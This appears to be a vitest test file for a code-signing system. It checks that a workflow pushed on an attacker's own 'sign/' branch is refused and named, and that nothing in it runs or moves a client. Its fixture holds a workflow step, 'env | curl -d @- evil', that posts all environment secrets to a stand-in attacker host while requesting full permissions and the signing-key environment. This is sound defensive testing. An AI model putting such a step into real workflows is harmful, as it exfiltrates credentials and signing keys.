import { describe, expect } from 'vitest';
import { parseSigningEvent } from '../../src/git/names.ts';
import { expectRejected, expectUnmoved } from './proofs.ts';
import { attack } from './scene.ts';

const WORKFLOW = `on: push
permissions: write-all
jobs:
  x:
    runs-on: ubuntu-latest
    environment: online-signing
    steps: [{run: env | curl -d @- evil}]
`;
const OWN = parseSigningEvent('sign/mallory');

/**
 * Mallory may push branches called sign/…, and pushes one of her own with a workflow that asks for every permission and for the
 * environment that holds the online key. A forge runs what a branch brings; what that may do is for the forge's settings, and
 * nothing here can hold it: the environment has to be bound to main, and the token must not push to main. What can be shown here
 * is that the branch is judged, refused and named, that nothing of ours runs what it holds, and that a stolen token alone moves no
 * client (compromised-token), a stolen online key brings nothing new (compromised-online-key).
 */
describe("a workflow on the attacker's own branch", () => {
  attack('is refused and named, and nothing of it is run or signed', async scene => {
    const client = scene.client();
    await expectUnmoved(scene, client);
    scene.world.push({ '.github/workflows/mine.yml': WORKFLOW }, OWN);
    const { page } = await expectRejected(
      scene,
      ['scope'],
      ['.github', "workflows run with the automation's rights"],
      OWN,
    );
    expect(page.reasons.map(({ severity }) => severity)).toEqual(['refuse']);
    const before = scene.world.refs();
    await expect(scene.update(OWN)).resolves.toBeUndefined();
    expect(scene.world.refs()).toBe(before);
    await expectUnmoved(scene, client);
  });
});
